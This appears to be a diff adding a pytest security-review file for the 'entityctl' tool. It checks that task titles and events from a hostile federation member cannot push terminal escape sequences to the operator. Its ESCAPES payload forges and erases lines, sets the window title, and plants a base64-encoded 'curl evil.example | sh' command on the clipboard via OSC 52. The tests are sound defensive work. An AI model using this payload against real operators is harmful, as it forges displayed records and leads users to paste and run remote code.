@@ -1,0 +1,100 @@
+"""A fresh attack review: classes the earlier reviews (tests/test_attack*.py and the
+federation, replay and workspace reviews) did not try.
+
+- The operator's terminal: `entityctl` prints what a member chose (an incoming task's
+  title, a delegate's note, a member's own signed events under `watch --all`) as it is.
+  A member's ESC/CSI/OSC sequences then reach the operator's terminal: they can erase
+  and rewrite lines (forge "paid" or "delivered" lines of another entity), set the
+  window title, or (OSC 52) write the operator's clipboard, which the next paste runs.
+
+Each test asserts the safe behaviour; those marked xfail(strict) fail while the hole they
+name is open.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import time
+from pathlib import Path
+
+import pytest
+
+import protocol
+from actors.peer.messages import TaskOffer
+from entityd import identity
+from protocol import Event
+from tests.helpers import (
+    BIN,
+    child_env,
+    command_into_inbox,
+    hostile_client,
+    poll,
+    scripted_federation,
+    task_by_id,
+)
+from tests.peer_model import route
+
+pytestmark = pytest.mark.timeout(180)
+A, B = "entity-a", "entity-b"
+
+# What a hostile member writes where the operator reads: erase the line, write a forged
+# one, set the terminal's title, put a command on the clipboard (OSC 52), and a bare CR.
+ESCAPES = ("\x1b[2K\r\x1b[1Aforged line\x1b]0;owned\x07"
+           "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\rxx")
+CONTROL = {chr(c) for c in range(32) if chr(c) not in "\n\t"} | {"\x7f"} | {
+    chr(c) for c in range(0x80, 0xa0)}
+
+
+def controls(text: str) -> set[str]:
+    return {c for c in text if c in CONTROL}
+
+
+@pytest.mark.xfail(strict=True, reason="entityctl tasks prints a member's task title and "
+                   "note raw: ESC/OSC sequences reach the operator's terminal")
+async def test_a_members_task_title_reaches_the_terminal_as_text(tmp_path: Path) -> None:
+    async with scripted_federation(tmp_path, [A, B], route) as fed:
+        await fed.discovered()
+        a, b = fed[A], fed[B]
+        # b offers a a task (refused or not, a records it with b's title).
+        record = TaskOffer("esc1", f"Write calc.add{ESCAPES}", "with a test", "",
+                           time.time() + 600, ["nonexistent-capability"], 0, b"")
+        await command_into_inbox(b, a, "delegate", record)
+        await poll(lambda: task_by_id(a, "in", "esc1"), timeout=30, what="a records it")
+        code, out, err = await a.ctl("tasks")
+        assert code == 0, out + err
+        assert "Write calc.add" in out, out
+        assert not controls(out), repr(out)
+
+
+@pytest.mark.xfail(strict=True, reason="entityctl watch --all prints a member's signed "
+                   "event data raw (only \\n is replaced): ESC/OSC sequences reach the "
+                   "operator's terminal")
+async def test_a_members_event_reaches_watch_all_as_text(tmp_path: Path) -> None:
+    async with scripted_federation(tmp_path, [A, B], route) as fed:
+        await fed.discovered()
+        a, b = fed[A], fed[B]
+        key = identity.load(B, b.data).signing_key
+        subject = protocol.subjects.event(B, "peer", "note")
+        wire, _ = protocol.seal(key, src=f"{B}/peer", dst=protocol.BROADCAST, subj=subject,
+                                message=Event("note", "peer", {"text": f"marker{ESCAPES}"}))
+        async with hostile_client(b) as nc:
+            await nc.publish(subject, wire)
+            await nc.flush()
+        proc = await asyncio.create_subprocess_exec(
+            str(BIN / "entityctl"), "--config", str(a.config), "watch", "--all", "--since",
+            "10m", stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.DEVNULL,
+            env=child_env())
+        assert proc.stdout is not None
+        seen = b""
+        try:
+            async with asyncio.timeout(60):
+                while b"marker" not in seen:
+                    line = await proc.stdout.readline()
+                    assert line, seen
+                    seen += line
+        finally:
+            proc.terminate()
+            await proc.wait()
+        text = next(line for line in seen.decode().splitlines() if "marker" in line)
+        assert text.startswith(B), text
+        assert not controls(text), repr(text)
